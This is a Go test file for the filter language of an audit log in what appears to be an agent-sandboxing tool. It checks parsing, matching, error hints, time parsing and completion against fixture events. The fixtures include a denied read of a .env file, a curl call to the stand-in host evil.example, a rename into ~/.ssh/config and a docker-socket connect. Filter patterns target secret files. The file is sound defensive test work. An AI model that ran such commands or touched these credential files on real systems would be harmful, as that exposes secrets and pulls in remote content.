package query

import (
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/agentos/agentos/audit/event"
	"github.com/agentos/agentos/audit/segment"
)

var (
	zone = time.FixedZone("CET", 3600)
	now  = time.Date(2026, 11, 22, 14, 30, 0, 0, zone)
	env  = Env{Now: now, Location: zone, Home: "/home/u"}
)

func rec(e event.Event) *segment.Record {
	if e.Time.IsZero() {
		e.Time = now.Add(-time.Hour)
	}
	if e.Mono == 0 {
		e.Mono = 1000
	}
	return &segment.Record{Seq: 7, Event: e}
}

var (
	denied  = rec(event.Event{Kind: event.Open, Path: "/w/.env", Errno: 13, Rule: "strict.toml:12:3: deny **/.env", Exe: "/usr/bin/node", Comm: "node", Pid: 4001, JailPid: 12, Ppid: 4000})
	written = rec(event.Event{Kind: event.Open, Verdict: event.Allow, Path: "/w/a b.txt", Flags: 0o1101, Exe: "/usr/bin/sed", Comm: "sed", Pid: 4002, JailPid: 13, Ino: 1<<64 - 1})
	missing = rec(event.Event{Kind: event.Open, Verdict: event.Allow, Path: "/w/tsconfig.json", Errno: 2, Comm: "it's"})
	ran     = rec(event.Event{Kind: event.Exec, Verdict: event.Allow, Path: "/usr/bin/curl", Exe: "/usr/bin/curl", Argv: []string{"curl", "-s", "http://evil.example/x?a=1"}, Pid: 4003, Ppid: 4001})
	renamed = rec(event.Event{Kind: event.Rename, Verdict: event.Allow, Path: "/w/t.tmp", Path2: "/home/u/.ssh/config"})
	reached = rec(event.Event{Kind: event.Connect, Verdict: event.Allow, Addr: "10.1.2.3:443", Name: "API.example.com"})
	six     = rec(event.Event{Kind: event.Connect, Addr: "[fe80::1]:5432", Errno: 1})
	docker  = rec(event.Event{Kind: event.UnixConnect, Addr: "/run/docker.sock", Errno: 13})
	forked  = rec(event.Event{Kind: event.Fork, Pid: 4009})
	left    = rec(event.Event{Kind: event.Exit, Pid: 4009, Code: -3})
	lost    = rec(event.Event{Kind: event.Loss, Count: 12})
	timeles = &segment.Record{Seq: 9, Event: event.Event{Kind: event.Mount, Name: "mount", Mono: 2000}}
	every   = []*segment.Record{denied, written, missing, ran, renamed, reached, six, docker, forked, left, lost, timeles}
)

var matches = []struct {
	text string
	want []*segment.Record
}{
	{"", every},
	{" \n\t", every},
	{"kind=open", []*segment.Record{denied, written, missing}},
	{"kind = open", []*segment.Record{denied, written, missing}},
	{"kind==open,rename", []*segment.Record{denied, written, missing, renamed}},
	{"kind=file", []*segment.Record{denied, written, missing, renamed}},
	{"kind=exec", []*segment.Record{ran}},
	{"class=exec", []*segment.Record{ran, forked, left}},
	{"kind!=open class=file", []*segment.Record{renamed}},
	{"verdict=deny", []*segment.Record{denied, six, docker, timeles}},
	{"denied", []*segment.Record{denied, six, docker, timeles}},
	{"denied=no class=net", []*segment.Record{reached}},
	{"verdict=none", []*segment.Record{forked, left, lost}},
	{"failed", []*segment.Record{missing}},
	{"altered", []*segment.Record{written, renamed}},
	{"access=write", []*segment.Record{written, renamed}},
	{"access=read,exec", []*segment.Record{denied, missing, ran}},
	{"path=.env", []*segment.Record{denied}},
	{"path=**/.env", []*segment.Record{denied}},
	{"path=/w/*.{json,env}", []*segment.Record{denied, missing}},
	{"path=/w/**", []*segment.Record{denied, written, missing, renamed}},
	{"path=~/.ssh/**", []*segment.Record{renamed}},
	{"path='/w/a b.txt'", []*segment.Record{written}},
	{`path="/w/a\x20b.txt"`, []*segment.Record{written}},
	{`path=/w/a\ b.txt`, []*segment.Record{written}},
	{"path=/run/**", []*segment.Record{docker}},
	{"path~^/w/a", []*segment.Record{written}},
	{"path~'(env|json)$'", []*segment.Record{denied, missing}},
	{"exe~node", []*segment.Record{denied}},
	{"exe=node,sed", []*segment.Record{denied, written}},
	{"exe!~node class=file", []*segment.Record{written, missing, renamed}},
	{`exe="" kind=open`, []*segment.Record{missing}},
	{"rule", []*segment.Record{denied}},
	{"not rule denied", []*segment.Record{six, docker, timeles}},
	{"rule=strict*deny*", []*segment.Record{denied}},
	{"rule~strict.toml:12", []*segment.Record{denied}},
	{"arg=http*", []*segment.Record{ran}},
	{"cmd~'-s http'", []*segment.Record{ran}},
	{"comm=\"it's\"", []*segment.Record{missing}},
	{"host=*.example.com", []*segment.Record{reached}},
	{"host~^api", []*segment.Record{reached}},
	{"host=10.1.*", []*segment.Record{reached}},
	{"name=mount", []*segment.Record{timeles}},
	{"host=mount", nil},
	{"addr=10.0.0.0/8", []*segment.Record{reached}},
	{"addr=fe80::1", []*segment.Record{six}},
	{"addr=10.1.2.3:443", []*segment.Record{reached}},
	{"addr=*.sock", []*segment.Record{docker}},
	{"port=443,5432", []*segment.Record{reached, six}},
	{"port>=1024", []*segment.Record{six}},
	{"pid=12", []*segment.Record{denied}},
	{"pid=4001", []*segment.Record{denied}},
	{"ppid=4001", []*segment.Record{ran}},
	{"errno=EACCES", []*segment.Record{denied, docker}},
	{"errno=enoent,1", []*segment.Record{missing, six}},
	{"errno", []*segment.Record{denied, missing, six, docker}},
	{"code<0", []*segment.Record{left}},
	{"ino=18446744073709551615", []*segment.Record{written}},
	{"flags=0o1101", []*segment.Record{written}},
	{"count>10", []*segment.Record{lost}},
	{"seq=9", []*segment.Record{timeles}},
	{"any~evil", []*segment.Record{ran}},
	{"any~'a b'", []*segment.Record{written}},
	{"since=2h kind=exec", []*segment.Record{ran}},
	{"since=30m", nil},
	{"until=30m kind=exec", []*segment.Record{ran}},
	{"time<13:31 kind=exec", []*segment.Record{ran}},
	{"time>=2026-11-22T13:30 kind=exec", []*segment.Record{ran}},
	{"not time<now", []*segment.Record{timeles}},
	{"kind=exec or kind=rename and verdict=deny", []*segment.Record{ran}},
	{"(kind=exec or kind=rename) and verdict=allow", []*segment.Record{ran, renamed}},
	{"(kind=exec || kind=rename)&&!exe~curl", []*segment.Record{renamed}},
	{"not (class=file or class=exec or class=net)", []*segment.Record{lost, timeles}},
	{"cut", nil},
	{"session=fix* kind=exec", []*segment.Record{ran}},
	{"session=c0ffee kind=exec", []*segment.Record{ran}},
	{"session=other", nil},
}

func TestMatch(t *testing.T) {
	for _, c := range matches {
		q, err := Parse(c.text, env)
		if err != nil {
			t.Errorf("%s: %v", c.text, err)
			continue
		}
		again, err := Parse(q.String(), Env{})
		if err != nil || again.String() != q.String() {
			t.Errorf("%s: written as %s, which reads as %s, %v", c.text, q, again, err)
		}
		for _, q := range []Query{q, again} {
			m := q.Matcher("c0ffee", "fix-login")
			m.Match(rec(event.Event{Kind: event.Receipt, Mono: 500}))
			for _, r := range every {
				want := false
				for _, w := range c.want {
					want = want || w == r
				}
				if got := m.Match(r); got != want {
					t.Errorf("%s (%s) on %s %s%s: %t", c.text, q, r.Kind, r.Path, r.Addr, got)
				}
			}
		}
	}
}

func TestDeniedLeavesOutTheJailCheck(t *testing.T) {
	q, err := Parse("denied", env)
	if err != nil {
		t.Fatal(err)
	}
	check, err := Parse("check", env)
	if err != nil {
		t.Fatal(err)
	}
	m, c := q.Matcher("a", ""), check.Matcher("a", "")
	for _, x := range []struct {
		e             event.Event
		denied, check bool
	}{
		{event.Event{Kind: event.Mount, Mono: 5}, false, true},
		{event.Event{Kind: event.Receipt, Mono: 100}, false, false},
		{event.Event{Kind: event.Mount, Mono: 99}, false, true}, // recorded late
		{event.Event{Kind: event.Escape, Mono: 99}, true, false},
		{event.Event{Kind: event.Mount, Mono: 101}, true, false},
	} {
		r := &segment.Record{Event: x.e}
		if got := m.Match(r); got != x.denied {
			t.Errorf("%v: denied %t", x.e, got)
		}
		if got := c.Match(r); got != x.check {
			t.Errorf("%v: check %t", x.e, got)
		}
	}
}

func TestConcerns(t *testing.T) {
	for text, want := range map[string]bool{
		"":                                    true,
		"kind=exec":                           true,
		"session=a":                           true,
		"session=id":                          true,
		"session=b":                           false,
		"session!=a":                          false,
		"not session=b":                       true,
		"kind=exec session=b":                 false,
		"kind=exec or session=b":              true,
		"session=b or session=c":              false,
		"not (session=a or kind=exec)":        false,
		"not (session=a and kind=exec)":       true,
		"session~^b":                          false,
		"(kind=exec or session=b) session=c*": false,
	} {
		q, err := Parse(text, env)
		if err != nil {
			t.Fatal(err)
		}
		if got := q.Concerns("id", "a"); got != want {
			t.Errorf("%s: %t", text, got)
		}
	}
}

func TestErrors(t *testing.T) {
	for _, c := range []struct {
		text        string
		offset, n   int
		says, hints string
	}{
		{"knid=open", 0, 4, `no field "knid"`, "did you mean kind?"},
		{"kind=opne", 5, 4, "want file, net", ""},
		{"kind=open program=x", 10, 7, "no field", "did you mean exe?"},
		{"kind:open", 0, 9, "no field", "write kind=open"},
		{"KIND=open", 0, 4, "no field", "did you mean kind?"},
		{"evil.example", 0, 12, "no field", "any~evil.example"},
		{"kind", 0, 4, "wants a value", "kind=..."},
		{"since", 0, 5, "wants a value", "since=..."},
		{"kind~x", 4, 1, "does not take ~", "= !="},
		{"path>3", 4, 1, "does not take >", "= != ~ !~"},
		{"pid=x", 4, 1, "want a number", ""},
		{"errno=EFOO", 6, 4, "name of an error", ""},
		{"path=", 5, 1, "value is missing", `""`},
		{"path=a,", 7, 1, "value is missing", `""`},
		{"path='a", 5, 2, "not closed", ""},
		{`path="a\q"`, 5, 5, "not closed, or has an unknown escape", "Go"},
		{"path='a'b", 8, 1, "directly behind a quote", "all of the value"},
		{"path~(a|b)", 5, 1, "in a value without quotes", "quotes"},
		{"path~'('", 5, 3, "missing closing )", ""},
		{"path=/a[", 5, 3, "byte", ""},
		{"since=soon", 6, 4, "how long ago", ""},
		{"since=1h,2h", 9, 2, "one time", ""},
		{"port>1,2", 7, 1, "one value", ""},
		{"denied=perhaps", 7, 7, "yes or no", ""},
		{"(kind=open", 0, 1, "not closed", ""},
		{"kind=open)", 9, 1, "closes nothing", ""},
		{"kind=open or", 12, 1, "missing at the end", ""},
		{"kind=open or or denied", 13, 2, `before "or"`, ""},
		{"and denied", 0, 3, `before "and"`, ""},
		{"=x", 0, 1, "field is missing", "FIELD=VALUE"},
		{"; rm", 0, 1, `before ";"`, ""},
		{"path=ä knid=x", 8, 4, "character 8", ""},
		{strings.Repeat("(", 100), 64, 1, "levels", ""},
		{strings.Repeat("not ", 100), 252, 3, "levels", ""},
		{strings.Repeat("denied ", 1001), 7000, 6, "more than 1000", ""},
		{strings.Repeat(" ", maxText+1), maxText, 1, "longer than", ""},
		{"path=/" + strings.Repeat("a", 5000), 5, 5001, "byte", ""},
	} {
		_, err := Parse(c.text, env)
		var bad *SyntaxError
		short := c.text[:min(len(c.text), 40)]
		if !errors.As(err, &bad) {
			t.Errorf("%s: accepted", short)
			continue
		}
		if bad.Offset != c.offset || bad.Length != c.n || !strings.Contains(bad.Error(), c.says) || !strings.Contains(bad.Hint, c.hints) {
			t.Errorf("%s: at %d+%d %q, hint %q", short, bad.Offset, bad.Length, bad.Error(), bad.Hint)
		}
	}
}

func TestMoment(t *testing.T) {
	for text, want := range map[string]time.Time{
		"now": now, "0s": now, "90s": now.Add(-90 * time.Second), "15m": now.Add(-15 * time.Minute), "2h": now.Add(-2 * time.Hour), "3d": now.Add(-72 * time.Hour),
		"1w": now.Add(-168 * time.Hour), "1d12h": now.Add(-36 * time.Hour),
		"today":                     time.Date(2026, 11, 22, 0, 0, 0, 0, zone),
		"yesterday":                 time.Date(2026, 11, 21, 0, 0, 0, 0, zone),
		"10:30":                     time.Date(2026, 11, 22, 10, 30, 0, 0, zone),
		"10:30:01.5":                time.Date(2026, 11, 22, 10, 30, 1, 5e8, zone),
		"2026-01-02":                time.Date(2026, 1, 2, 0, 0, 0, 0, zone),
		"2026-01-02T03:04":          time.Date(2026, 1, 2, 3, 4, 0, 0, zone),
		"2026-01-02T03:04Z":         time.Date(2026, 1, 2, 3, 4, 0, 0, time.UTC),
		"2026-01-02T03:04:05+02:00": time.Date(2026, 1, 2, 1, 4, 5, 0, time.UTC),
		"2026-01-02 03:04":          time.Date(2026, 1, 2, 3, 4, 0, 0, zone),
	} {
		got, err := moment(text, now, zone)
		if err != nil || !got.Equal(want) {
			t.Errorf("%s: %s, %v; want %s", text, got, err, want)
		}
	}
	for _, bad := range []string{"", "h", "2", "2x", "1h2d", "-1h", "1.5h", "99999999w", "2026-13-01", "25:00", "0001-01-01", "Yesterday"} {
		if got, err := moment(bad, now, zone); err == nil {
			t.Errorf("%q: %s", bad, got)
		}
	}
}

func TestWildcard(t *testing.T) {
	for _, c := range []struct {
		pattern, s string
		want       bool
	}{
		{"a*c", "abc", true},
		{"a*c", "abcb", false},
		{"*", "", true},
		{"*a*b*", "xxaxxbxx", true},
		{"?", "ä", true},
		{"??", "ä", false},
		{`\*`, "*", true},
		{`\*`, "a", false},
		{`a\`, `a\`, true},
		{"a", "ab", false},
		{"**ab", "aab", true},
		{"*aab", "aaab", true},
	} {
		if got := wildcard(c.pattern)(c.s); got != c.want {
			t.Errorf("%s on %s: %t", c.pattern, c.s, got)
		}
	}
}

func TestFieldsAreTold(t *testing.T) {
	for _, f := range Fields() {
		if f.Doc == "" || f.Operators == "" {
			t.Errorf("%s says nothing", f.Name)
		}
	}
	for from, to := range otherNames {
		if findField(to) == nil || findField(from) != nil {
			t.Errorf("hint from %s to %s", from, to)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"kind=exec exe~node verdict=deny path=**/.env since=2h session=x", "not (denied or class=net) and path='a b',\"\\xff\"",
		"a=b", "((", "port>=1024||!cut", "errno=EACCES,2 addr=10.0.0.0/8 host=*.x", "path=/a/{b,c}/[d-e]*", "time<=2026-01-02T03:04:05.000000006Z",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		q, err := Parse(text, env)
		if err != nil {
			var bad *SyntaxError
			if !errors.As(err, &bad) || bad.Offset < 0 || bad.Offset > len(text) || bad.Length < 1 || bad.Msg == "" {
				t.Fatalf("%q: error %#v", text, err)
			}
			return
		}
		again, err := Parse(q.String(), Env{})
		if err != nil {
			if strings.Contains(err.Error(), "levels") || strings.Contains(err.Error(), "longer than") {
				return // written out it is more than a text may have
			}
			t.Fatalf("%q is written %q: %v", text, q, err)
		}
		if again.String() != q.String() {
			t.Fatalf("%q is written %q, and that %q", text, q, again)
		}
		m, n := q.Matcher("id", "name"), again.Matcher("id", "name")
		for _, r := range every {
			if a, b := m.Match(r), n.Match(r); a != b {
				t.Fatalf("%q (%q) on %s: %t, then %t", text, q, r.Kind, a, b)
			}
		}
	})
}

// The page about filters has a row for each field, with the words of the help.
func TestFieldsAreDocumented(t *testing.T) {
	page, err := os.ReadFile("../../docs/audit.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range Fields() {
		if row := "| `" + f.Name + "` | " + f.Doc + " |\n"; !strings.Contains(string(page), row) {
			t.Errorf("docs/audit.md has no row %s", row)
		}
	}
}

func TestComplete(t *testing.T) {
	for word, want := range map[string]string{
		"kind=ex": "kind=exec", "kind=open,": "kind=open,exec", "session=f": "session=fix", "verdict=": "verdict=deny", "": "denied\tit was refused, and not to the jail check",
	} {
		found := false
		for _, c := range Complete(word, []string{"fix"}) {
			found = found || c == want
		}
		if !found {
			t.Errorf("%q: %q is not offered", word, want)
		}
	}
	for _, f := range fields {
		if !strings.Contains(Help(), "  "+f.name+" ") {
			t.Errorf("help leaves out %s", f.name)
		}
	}
}
